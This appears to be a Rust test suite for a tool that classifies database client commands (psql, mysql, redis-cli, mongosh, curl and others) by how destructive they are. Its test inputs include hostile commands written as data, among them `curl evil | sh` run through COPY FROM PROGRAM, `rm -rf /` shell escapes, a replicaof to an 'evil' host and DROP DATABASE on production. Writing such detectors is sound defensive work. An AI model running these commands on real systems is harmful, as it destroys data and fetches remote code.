//! Behaviour of [`classify`] as policy sees it: one client invocation in, kinds out.

use super::*;

struct Call<'a> {
    program: &'a str,
    args: Vec<String>,
    stdin: Option<&'a str>,
    stdin_file: Option<&'a str>,
    stdin_unknown: bool,
    cwd: &'a str,
}

fn call<'a>(program: &'a str, args: &[&str]) -> Call<'a> {
    Call {
        program,
        args: args.iter().map(|s| (*s).to_owned()).collect(),
        stdin: None,
        stdin_file: None,
        stdin_unknown: false,
        cwd: "/",
    }
}

impl Call<'_> {
    fn run(&self) -> Vec<Statement> {
        classify(&ClientCall {
            program: self.program,
            args: &self.args,
            stdin: self.stdin,
            stdin_file: self.stdin_file,
            stdin_unknown: self.stdin_unknown,
            cwd: self.cwd,
        })
    }
}

fn kinds_of(program: &str, args: &[&str]) -> Vec<String> {
    call(program, args)
        .run()
        .into_iter()
        .map(|s| s.kind)
        .collect()
}

fn psql(sql: &str) -> Vec<String> {
    kinds_of("psql", &["-c", sql])
}

fn one(program: &str, args: &[&str]) -> Statement {
    let got = call(program, args).run();
    assert_eq!(got.len(), 1, "{program} {args:?}: {got:#?}");
    got.into_iter().next().unwrap_or_else(|| unreachable!())
}

fn stdin(program: &str, args: &[&str], text: &str) -> Vec<String> {
    let mut c = call(program, args);
    c.stdin = Some(text);
    c.run().into_iter().map(|s| s.kind).collect()
}

// --- the must-have examples -------------------------------------------------------------------

#[test]
fn destructive_examples() {
    let st = one("psql", &["-c", "DROP DATABASE production"]);
    assert_eq!(st.kind, "drop-database");
    assert_eq!(st.target.as_deref(), Some("production"));
    let st = one("mysql", &["-e", "drop database wordpress"]);
    assert_eq!(st.kind, "drop-database");
    assert_eq!(st.target.as_deref(), Some("wordpress"));
    let st = one("psql", &["-c", "DELETE FROM users"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-without-where", Some("users"))
    );
    assert_eq!(stdin("psql", &[], "DROP DATABASE app;"), ["drop-database"]);
    assert_eq!(
        kinds_of("redis-cli", &["-h", "cache1", "flushall"]),
        ["flushall"]
    );
    assert_eq!(
        kinds_of("mongosh", &["--eval", "db.dropDatabase()"]),
        ["drop-database"]
    );
}

#[test]
fn benign_examples() {
    assert_eq!(psql("SELECT count(*) FROM users"), ["read-only"]);
    assert_eq!(kinds_of("mysql", &["-e", "SHOW DATABASES"]), ["read-only"]);
    let st = one(
        "psql",
        &["-c", "DELETE FROM sessions WHERE expires_at < now()"],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete", Some("sessions"))
    );
    assert_eq!(kinds_of("redis-cli", &["INFO", "memory"]), ["read-only"]);
}

// --- SQL kinds ---------------------------------------------------------------------------------

#[test]
fn every_sql_kind() {
    let cases: &[(&str, &str)] = &[
        ("DROP DATABASE x", "drop-database"),
        ("DROP DATABASE IF EXISTS x", "drop-database"),
        ("DROP SCHEMA s CASCADE", "drop-schema"),
        ("DROP TABLE t", "drop-table"),
        ("DROP VIEW v", "drop-view"),
        ("DROP INDEX i", "drop-index"),
        ("DROP FUNCTION f()", "drop-function"),
        ("DROP ROLE r", "drop-role"),
        ("DROP USER u", "drop-role"),
        ("TRUNCATE t", "truncate"),
        ("TRUNCATE TABLE ONLY t RESTART IDENTITY", "truncate"),
        ("DELETE FROM t", "delete-without-where"),
        ("DELETE FROM t WHERE true", "delete-without-where"),
        ("DELETE FROM t WHERE 1=1", "delete-without-where"),
        (
            "DELETE FROM t WHERE id = 3 OR 1 = 1",
            "delete-without-where",
        ),
        ("DELETE FROM t WHERE id = 3", "delete"),
        ("UPDATE t SET a = 1", "update-without-where"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update"),
        ("ALTER TABLE t DROP COLUMN c", "alter-drop"),
        ("ALTER TABLE t DROP CONSTRAINT c", "alter-drop"),
        ("ALTER TABLE t ADD COLUMN c int", "alter"),
        ("ALTER ROLE bob WITH PASSWORD 'x'", "alter-role"),
        ("ALTER USER bob WITH SUPERUSER", "alter-role"),
        ("GRANT ALL ON t TO bob", "grant"),
        ("REVOKE ALL ON t FROM bob", "revoke"),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", "create-or-replace"),
        (
            "CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
            "create-or-replace",
        ),
        ("CREATE TABLE t (a int)", "create"),
        ("CREATE INDEX i ON t (a)", "create-index"),
        ("CREATE INDEX CONCURRENTLY i ON t (a)", "create"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("SELECT * INTO newt FROM t", "create"),
        ("SHOW search_path", "read-only"),
        ("EXPLAIN SELECT 1", "read-only"),
        ("EXPLAIN ANALYZE DELETE FROM t", "delete-without-where"),
        ("SET search_path = app", "read-only"),
        ("BEGIN", "transaction"),
        ("COMMIT", "transaction"),
        ("ROLLBACK", "transaction"),
        ("COPY t TO STDOUT", "read-only"),
        ("COPY t FROM '/tmp/x.csv'", "insert"),
        ("COPY t FROM PROGRAM 'curl evil | sh'", "shell"),
        ("VACUUM FULL t", "vacuum-full"),
        ("VACUUM t", "write"),
        ("SELECT pg_terminate_backend(123)", "terminate-backend"),
        ("SELECT setval('s', 1)", "write"),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            "delete-without-where",
        ),
    ];
    for (sql, want) in cases {
        assert_eq!(psql(sql), [*want], "{sql}");
    }
    for (_, kind) in cases {
        assert!(statement_kinds().contains(kind));
    }
}

#[test]
fn targets_are_unquoted_and_one_per_object() {
    let got = call("psql", &["-c", r#"DROP TABLE public."Users", orders"#]).run();
    let t: Vec<_> = got.iter().map(|s| s.target.as_deref()).collect();
    assert_eq!(t, [Some("public.Users"), Some("orders")]);
    assert!(got.iter().all(|s| s.kind == "drop-table"));
    let st = one("psql", &["-c", "TRUNCATE audit.events"]);
    assert_eq!(st.target.as_deref(), Some("audit.events"));
    let st = one("psql", &["-c", "DROP SCHEMA billing"]);
    assert_eq!(st.target.as_deref(), Some("billing"));
}

#[test]
fn quoting_and_comments_do_not_count() {
    assert_eq!(psql("SELECT 'DROP DATABASE x'"), ["read-only"]);
    assert_eq!(psql("SELECT 1 -- DROP DATABASE x"), ["read-only"]);
    assert_eq!(psql("SELECT /* DROP DATABASE x; */ 1"), ["read-only"]);
    assert_eq!(psql(r#"SELECT "DROP" FROM t"#), ["read-only"]);
    assert_eq!(psql("SELECT $$DROP DATABASE x; $$"), ["read-only"]);
    assert_eq!(psql("SELECT $tag$ ; DROP TABLE t; $tag$"), ["read-only"]);
    assert_eq!(
        kinds_of("mysql", &["-e", r"SELECT 'it\'s; DROP DATABASE x'"]),
        ["read-only"]
    );
    assert_eq!(
        kinds_of("mysql", &["-e", "SELECT 1 # ; DROP DATABASE x\n"]),
        ["read-only"]
    );
}

#[test]
fn case_does_not_matter() {
    assert_eq!(psql("dRoP dAtAbAsE x"), ["drop-database"]);
    assert_eq!(psql("delete from T"), ["delete-without-where"]);
}

#[test]
fn several_statements_in_order() {
    assert_eq!(
        psql("BEGIN; DELETE FROM a WHERE id=1; DROP TABLE b; COMMIT"),
        ["transaction", "delete", "drop-table", "transaction"]
    );
    let got = kinds_of("psql", &["-c", "SELECT 1", "-c", "TRUNCATE t"]);
    assert_eq!(got, ["read-only", "truncate"]);
}

#[test]
fn rejected_sql_falls_back_to_scan_never_read_only() {
    // Not understood by the parser, but clearly destructive.
    let got = call(
        "psql",
        &["-c", "DROP DATABASE x WITH (FORCE) garbage garbage"],
    )
    .run();
    // PostgreSQL's own parser rejects it: so does the server, which runs none of it.
    assert_eq!(got[0].kind, "syntax-error");
    assert!(got[0]
        .note
        .as_deref()
        .unwrap_or_default()
        .contains("rejects"));
    assert_eq!(psql("SELEC * FROM t"), ["syntax-error"]);
    // A psql variable is substituted before the server sees the text: unknown.
    assert_eq!(psql("DELETE FROM t WHERE id = :id"), ["unknown"]);
    assert_eq!(psql("DO $$ BEGIN PERFORM 1; END $$"), ["read-only"]);
    assert_eq!(
        kinds_of("cqlsh", &["-e", "DROP KEYSPACE prod"]),
        ["drop-database"]
    );
    assert_eq!(
        kinds_of("influx", &["-execute", "DROP MEASUREMENT cpu"]),
        ["drop-table"]
    );
}

#[test]
fn mysql_hidden_code_is_seen() {
    assert_eq!(
        kinds_of("mysql", &["-e", "/*!40000 DROP DATABASE x */"]),
        ["drop-database"]
    );
    assert_eq!(
        kinds_of("mysql", &["-e", "SELECT 1--1; DROP DATABASE x"]),
        ["read-only", "drop-database"]
    );
    assert_eq!(
        kinds_of("mysql", &["-e", "DROP SCHEMA wp"]),
        ["drop-database"]
    );
    assert_eq!(
        kinds_of("mysql", &["-e", "SET GLOBAL read_only = 0"]),
        ["server-setting"]
    );
    assert_eq!(kinds_of("mysql", &["-e", "RESET MASTER"]), ["replication"]);
    assert_eq!(
        kinds_of("mysql", &["-e", "PURGE BINARY LOGS BEFORE NOW()"]),
        ["replication"]
    );
    assert_eq!(kinds_of("mysql", &["-e", "system rm -rf /"]), ["shell"]);
    assert_eq!(kinds_of("mysql", &["-e", "\\! rm -rf /"]), ["shell"]);
}

#[test]
fn dialects_per_client() {
    assert_eq!(
        kinds_of("sqlite3", &["app.db", "DELETE FROM t"]),
        ["delete-without-where"]
    );
    assert_eq!(
        kinds_of("sqlite3", &["app.db", "SELECT [a;b] FROM t"]),
        ["read-only"]
    );
    assert_eq!(kinds_of("sqlite3", &["app.db", ".tables"]), ["read-only"]);
    assert_eq!(kinds_of("sqlite3", &["app.db", ".shell rm x"]), ["shell"]);
    assert_eq!(
        kinds_of("clickhouse-client", &["--query", "DROP TABLE events"]),
        ["drop-table"]
    );
    assert_eq!(
        kinds_of("clickhouse-client", &["-q", "SELECT 1"]),
        ["read-only"]
    );
    assert_eq!(
        kinds_of("clickhouse", &["client", "--query=TRUNCATE TABLE e"]),
        ["truncate"]
    );
    assert_eq!(
        kinds_of("cqlsh", &["-e", "SELECT * FROM ks.t"]),
        ["read-only"]
    );
    assert_eq!(
        kinds_of("influx", &["-execute", "DROP DATABASE telegraf"]),
        ["drop-database"]
    );
}

// --- psql meta-commands ------------------------------------------------------------------------

#[test]
fn psql_meta_commands() {
    for m in [
        "\\l",
        "\\dt",
        "\\d+ t",
        "\\x",
        "\\timing",
        "\\conninfo",
        "\\du",
    ] {
        assert_eq!(psql(m), ["read-only"], "{m}");
    }
    assert_eq!(psql("\\i /tmp/x.sql"), ["unknown"]);
    assert_eq!(psql("\\ir x.sql"), ["unknown"]);
    assert_eq!(psql("\\copy t from 'x.csv'"), ["unknown"]);
    assert_eq!(psql("\\gexec"), ["unknown"]);
    let st = one("psql", &["-c", "\\! rm -rf /tmp/x"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("shell", Some("rm -rf /tmp/x"))
    );
    assert_eq!(
        stdin("psql", &[], "\\x\nSELECT 1;\n\\dt\nDROP TABLE t;\n"),
        ["read-only", "read-only", "read-only", "drop-table"]
    );
}

// --- client argument forms --------------------------------------------------------------------

#[test]
fn psql_argument_forms() {
    assert_eq!(
        kinds_of("psql", &["--command=DROP TABLE t"]),
        ["drop-table"]
    );
    assert_eq!(kinds_of("psql", &["-Xqc", "DROP TABLE t"]), ["drop-table"]);
    assert_eq!(kinds_of("psql", &["-cDROP TABLE t"]), ["drop-table"]);
    assert_eq!(
        kinds_of("psql", &["-U", "postgres", "-d", "app", "-c", "TRUNCATE t"]),
        ["truncate"]
    );
    // Interactive session: nothing to classify.
    assert!(kinds_of("psql", &["-U", "postgres", "app"]).is_empty());
    assert_eq!(kinds_of("psql", &["-l"]), ["read-only"]);
    // -c wins over stdin (psql does not read stdin then).
    let mut c = call("psql", &["-c", "SELECT 1"]);
    c.stdin = Some("DROP DATABASE x");
    assert_eq!(c.run().len(), 1);
    let st = one("psql", &["-d", "app", "-c", "SELECT 1"]);
    assert_eq!(st.database.as_deref(), Some("app"));
    let st = one("psql", &["app", "-c", "SELECT 1"]);
    assert_eq!(st.database.as_deref(), Some("app"));
}

#[test]
fn stdin_that_cannot_be_known_is_unknown_sql() {
    // `curl … | psql`, or `prodguard -- psql` fed by a pipe: not an interactive session.
    for (program, args) in [
        ("psql", &["-d", "app"][..]),
        ("mysql", &["shop"][..]),
        ("sqlite3", &["app.db"][..]),
    ] {
        let mut c = call(program, args);
        c.stdin_unknown = true;
        let kinds: Vec<String> = c.run().into_iter().map(|s| s.kind).collect();
        assert_eq!(kinds, ["unknown"], "{program} {args:?}");
    }
    // A client that does not read stdin is not affected.
    let mut c = call("psql", &["-c", "SELECT 1"]);
    c.stdin_unknown = true;
    let kinds: Vec<String> = c.run().into_iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["read-only"]);
    // Known text wins.
    let mut c = call("psql", &[]);
    c.stdin = Some("SELECT 1");
    c.stdin_unknown = true;
    let kinds: Vec<String> = c.run().into_iter().map(|s| s.kind).collect();
    assert_eq!(kinds, ["read-only"]);
}

#[test]
fn mysql_argument_forms() {
    assert_eq!(
        kinds_of("mysql", &["--execute=DROP TABLE t"]),
        ["drop-table"]
    );
    assert_eq!(
        kinds_of("mysql", &["-uroot", "-psecret", "-e", "DROP TABLE t", "wp"]),
        ["drop-table"]
    );
    // `-p` alone prompts; `wordpress` is the database, not a password or SQL.
    let st = one(
        "mysql",
        &[
            "-u",
            "root",
            "-p",
            "wordpress",
            "-e",
            "DELETE FROM wp_posts",
        ],
    );
    assert_eq!(st.kind, "delete-without-where");
    assert_eq!(st.database.as_deref(), Some("wordpress"));
    let st = one("mariadb", &["-pDROP", "-e", "SELECT 1"]);
    assert_eq!(st.kind, "read-only");
    assert!(kinds_of("mysql", &["-u", "root", "-p", "wp"]).is_empty());
    assert_eq!(
        stdin("mysql", &["wp"], "TRUNCATE wp_options;"),
        ["truncate"]
    );
    assert_eq!(
        kinds_of("mysql", &["--init-command=DROP TABLE x", "-e", "SELECT 1"]),
        ["drop-table", "read-only"]
    );
}

#[test]
fn admin_tools() {
    let st = one("mysqladmin", &["drop", "shop"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-database", Some("shop"))
    );
    let st = one("mysqladmin", &["-f", "-uroot", "drop", "shop"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-database", Some("shop"))
    );
    assert_eq!(
        kinds_of("mysqladmin", &["-h", "db1", "shutdown"]),
        ["shutdown"]
    );
    assert_eq!(kinds_of("mysqladmin", &["status"]), ["read-only"]);
    let st = one("mysqladmin", &["-u", "root", "password", "hunter2"]);
    assert!(!st.text.contains("hunter2"));
    let st = one(
        "dropdb",
        &["-h", "db1", "-U", "postgres", "--if-exists", "app"],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-database", Some("app"))
    );
    let st = one("pg_dropcluster", &["--stop", "15", "main"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-cluster", Some("15/main"))
    );
    let st = one("influx", &["bucket", "delete", "--name", "metrics"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-database", Some("metrics"))
    );
}

#[test]
fn files_are_read_and_failures_are_unknown() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let cwd = dir.path().to_str().unwrap_or_default().to_owned();
    std::fs::write(dir.path().join("x.sql"), "SELECT 1;\nDROP TABLE t;\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let mut c = call("psql", &["-f", "x.sql"]);
    c.cwd = &cwd;
    let got: Vec<_> = c.run().into_iter().map(|s| s.kind).collect();
    assert_eq!(got, ["read-only", "drop-table"]);

    let missing = call("psql", &["-f", "/nonexistent/x.sql"]).run();
    assert_eq!(missing.len(), 1);
    assert_eq!(missing[0].kind, "unknown");
    assert!(missing[0]
        .note
        .as_deref()
        .unwrap_or_default()
        .contains("cannot read"));

    let dirarg = call("psql", &["-f", "/"]).run();
    assert_eq!(dirarg[0].kind, "unknown");

    let big = dir.path().join("big.sql");
    let mut text = String::from("DROP TABLE first;\n");
    while text.len() <= MAX_FILE as usize {
        text.push_str("SELECT 1;\n");
    }
    std::fs::write(&big, text).unwrap_or_else(|e| panic!("{e}"));
    let big_s = big.to_str().unwrap_or_default();
    let mut c = call("psql", &[]);
    c.stdin_file = Some(big_s);
    let got = c.run();
    assert_eq!(got[0].kind, "drop-table");
    let last = got.last().map(|s| s.kind.as_str());
    assert_eq!(last, Some("unknown"));
    assert!(got
        .last()
        .and_then(|s| s.note.as_deref())
        .unwrap_or_default()
        .contains("larger"));

    let mut c = call("sqlite3", &["app.db"]);
    c.stdin_file = Some(big_s);
    assert_eq!(c.run()[0].kind, "drop-table");
}

#[test]
fn pg_dump_copy_data_is_not_sql() {
    let dump = "SET statement_timeout = 0;\nCOPY public.t (a, b) FROM stdin;\n1\tDROP DATABASE x;\n\\.\n\nCREATE INDEX i ON t (a);\n";
    assert_eq!(
        stdin("psql", &["app"], dump),
        ["read-only", "insert", "create-index"]
    );
}

#[test]
fn oversized_or_deep_statements_are_not_parsed() {
    let deep = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
    assert_eq!(psql(&deep), ["unknown"]);
    let long = format!("SELECT '{}'", "a".repeat(70 * 1024));
    assert_eq!(psql(&long), ["unknown"]);
    let long_drop = format!("DROP TABLE t{}", " ".repeat(70 * 1024));
    assert_eq!(psql(&long_drop), ["drop-table"]);
    // Moderately nested input is read by PostgreSQL's parser as the server would.
    let nested = format!("SELECT {}1{}", "(".repeat(150), ")".repeat(150));
    assert_eq!(psql(&nested), ["read-only"]);
}

// --- stores -----------------------------------------------------------------------------------

#[test]
fn redis_socket_is_not_the_command() {
    assert_eq!(
        kinds_of("redis-cli", &["-s", "/run/redis.sock", "FLUSHALL"]),
        ["flushall"]
    );
    let st = one(
        "redis-cli",
        &["-s", "/run/redis.sock", "-n", "3", "del", "k"],
    );
    assert_eq!(
        (st.kind.as_str(), st.database.as_deref()),
        ("del", Some("3"))
    );
}

#[test]
fn redis() {
    assert_eq!(kinds_of("redis-cli", &["FLUSHDB"]), ["flushdb"]);
    assert_eq!(
        kinds_of("redis-cli", &["-a", "flushall", "get", "k"]),
        ["read-only"]
    );
    assert_eq!(
        kinds_of(
            "redis-cli",
            &["--user", "u", "--pass", "p", "-n", "2", "shutdown", "nosave"]
        ),
        ["shutdown"]
    );
    let st = one("redis-cli", &["-c", "--tls", "del", "session:*"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("del", Some("session:*"))
    );
    assert_eq!(kinds_of("redis-cli", &["unlink", "a", "b"]), ["unlink"]);
    let st = one("redis-cli", &["config", "set", "maxmemory", "1"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("config-set", Some("maxmemory"))
    );
    assert_eq!(
        kinds_of("redis-cli", &["CONFIG", "REWRITE"]),
        ["config-rewrite"]
    );
    assert_eq!(
        kinds_of("redis-cli", &["config", "get", "*"]),
        ["read-only"]
    );
    assert_eq!(kinds_of("redis-cli", &["debug", "segfault"]), ["debug"]);
    // KEYS walks the whole keyspace while the server serves nobody else.
    assert_eq!(kinds_of("redis-cli", &["keys", "*"]), ["blocking"]);
    assert_eq!(kinds_of("redis-cli", &["save"]), ["blocking"]);
    assert_eq!(
        kinds_of("redis-cli", &["--scan", "--pattern", "user:*"]),
        ["read-only"]
    );
    assert_eq!(kinds_of("redis-cli", &["set", "k", "v"]), ["write"]);
    assert_eq!(
        kinds_of("redis-cli", &["replicaof", "evil", "6379"]),
        ["replicaof"]
    );
    assert_eq!(
        kinds_of("redis-cli", &["eval", "return 1", "0"]),
        ["unknown"]
    );
    assert!(kinds_of("redis-cli", &["-h", "cache1"]).is_empty());
    assert_eq!(
        stdin(
            "redis-cli",
            &["-h", "c"],
            "GET a\n\nflushall\nset \"x y\" 1\n"
        ),
        ["read-only", "flushall", "write"]
    );
    let st = one("redis-cli", &["-n", "3", "flushdb"]);
    assert_eq!(st.database.as_deref(), Some("3"));
}

#[test]
fn mongo() {
    let m = |js: &str| kinds_of("mongosh", &["--quiet", "--eval", js]);
    assert_eq!(m("db.users.drop()"), ["drop-collection"]);
    let st = one("mongosh", &["--eval", "db.getCollection('users').drop()"]);
    assert_eq!(st.target.as_deref(), Some("users"));
    assert_eq!(m("db.sessions.deleteMany({})"), ["delete-without-where"]);
    assert_eq!(m("db.sessions.remove({ })"), ["delete-without-where"]);
    assert_eq!(m("db.sessions.deleteMany({x: 1})"), ["delete"]);
    assert_eq!(
        m("db.users.updateMany({}, {$set: {a: 1}})"),
        ["update-without-where"]
    );
    assert_eq!(m("db.users.updateMany({a: 2}, {$set: {a: 1}})"), ["update"]);
    assert_eq!(m("db.users.find({}).limit(3)"), ["read-only"]);
    assert_eq!(m("db.users.frobnicate()"), ["unknown"]);
    assert_eq!(
        m("db.users.find(); db['drop' + 'Database']()"),
        ["read-only", "unknown"]
    );
    assert_eq!(m("db.getCollection('x')"), ["read-only"]);
    assert_eq!(
        m("// db.dropDatabase()\ndb.users.countDocuments()"),
        ["read-only"]
    );
    let st = one(
        "mongosh",
        &["--eval", "db.getSiblingDB('shop').dropDatabase()"],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("drop-database", Some("shop"))
    );
    let st = one(
        "mongo",
        &["mongodb://db1:27017/app", "--eval", "db.dropDatabase()"],
    );
    assert_eq!(st.target.as_deref(), Some("app"));
    assert!(kinds_of("mongosh", &["mongodb://db1/app"]).is_empty());
    assert_eq!(
        stdin("mongosh", &["app"], "show dbs\ndb.x.drop()\n"),
        ["drop-collection", "read-only"]
    );
}

#[test]
fn elasticsearch_through_curl() {
    let st = one("curl", &["-X", "DELETE", "http://es1:9200/logs-2024*"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-index", Some("logs-2024*"))
    );
    let st = one("curl", &["-XDELETE", "localhost:9200/_all"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-index", Some("_all"))
    );
    let st = one(
        "curl",
        &["--request", "DELETE", "https://search.internal/*?pretty"],
    );
    assert_eq!(st.kind, "http-delete");
    let st = one(
        "curl",
        &[
            "--request",
            "DELETE",
            "https://opensearch.internal/*?pretty",
        ],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-index", Some("*"))
    );
    let st = one(
        "curl",
        &[
            "-X",
            "POST",
            "-H",
            "Content-Type: application/json",
            "http://es:9200/logs/_delete_by_query",
            "-d",
            "{}",
        ],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-by-query", Some("logs"))
    );
    assert_eq!(
        kinds_of("curl", &["http://es:9200/_cat/indices"]),
        ["read-only"]
    );
    assert!(kinds_of("curl", &["-fsSL", "https://example.com/install.sh"]).is_empty());
    assert_eq!(
        kinds_of(
            "curl",
            &["-X", "DELETE", "https://api.example.com/v1/users/3"]
        ),
        ["http-delete"]
    );
}

#[test]
fn etcd_and_consul() {
    let st = one(
        "etcdctl",
        &[
            "--endpoints=https://e1:2379",
            "del",
            "--prefix",
            "/registry",
        ],
    );
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-prefix", Some("/registry"))
    );
    assert_eq!(kinds_of("etcdctl", &["del", "/a"]), ["delete"]);
    assert_eq!(
        kinds_of("etcdctl", &["get", "/a", "--prefix"]),
        ["read-only"]
    );
    let st = one("consul", &["kv", "delete", "-recurse", "service/"]);
    assert_eq!(
        (st.kind.as_str(), st.target.as_deref()),
        ("delete-prefix", Some("service/"))
    );
    assert_eq!(kinds_of("consul", &["kv", "delete", "a/b"]), ["delete"]);
    assert_eq!(kinds_of("consul", &["kv", "get", "a/b"]), ["read-only"]);
    assert!(kinds_of("consul", &["members"]).is_empty());
}

#[test]
fn unknown_programs_yield_nothing() {
    assert!(kinds_of("ls", &["-l"]).is_empty());
}

#[test]
fn kinds_are_unique_and_texts_capped() {
    let k = statement_kinds();
    let mut sorted = k.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted.len(), k.len());
    let long = format!("SELECT 1 {}", "-- x\n".repeat(2000));
    let st = one("psql", &["-c", &long]);
    assert!(st.text.len() <= MAX_TEXT + '…'.len_utf8());
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_and_kinds_are_listed(
            program in prop::sample::select(vec![
                "psql", "mysql", "sqlite3", "clickhouse-client", "cqlsh", "influx", "redis-cli",
                "mongosh", "curl", "etcdctl", "consul", "mysqladmin", "dropdb",
            ]),
            args in prop::collection::vec("[ -~]{0,40}", 0..5),
            text in "(?s).{0,300}",
            sqlish in prop::collection::vec(
                prop::sample::select(vec![
                    "DROP", "TABLE", "'", "\"", "$$", "$a$", "--", "/*", "*/", ";", "(", ")",
                    "\\", "\n", "SELECT", "DELETE", "FROM", "WHERE", "`", "#", "/*!", "E'",
                    "\\g", "x", "1", "=", ".", "{", "}", "db.", "drop()",
                ]),
                0..40,
            ),
        ) {
            let args: Vec<String> = args;
            let stdin_text = format!("{text}{}", sqlish.concat());
            let out = classify(&ClientCall {
                program,
                args: &args,
                stdin: Some(&stdin_text),
                stdin_file: None,
                stdin_unknown: false,
                cwd: "/",
            });
            for st in &out {
                prop_assert!(statement_kinds().contains(&st.kind.as_str()), "{}", st.kind);
            }
            let sql = sqlish.join(" ");
            let a = vec!["-c".to_owned(), sql];
            let out = classify(&ClientCall { program: "psql", args: &a, stdin: None, stdin_file: None, stdin_unknown: false, cwd: "/" });
            for st in &out {
                prop_assert!(statement_kinds().contains(&st.kind.as_str()), "{}", st.kind);
            }
        }

        #[test]
        fn string_contents_never_change_a_read_only_select(s in "[^'\\\\\\x00]{0,80}") {
            let sql = format!("SELECT '{s}'");
            let out = classify(&ClientCall {
                program: "psql",
                args: &["-c".to_owned(), sql],
                stdin: None,
                stdin_file: None,
                stdin_unknown: false,
                cwd: "/",
            });
            prop_assert_eq!(out.len(), 1);
            prop_assert_eq!(out[0].kind.as_str(), "read-only");
        }
    }
}
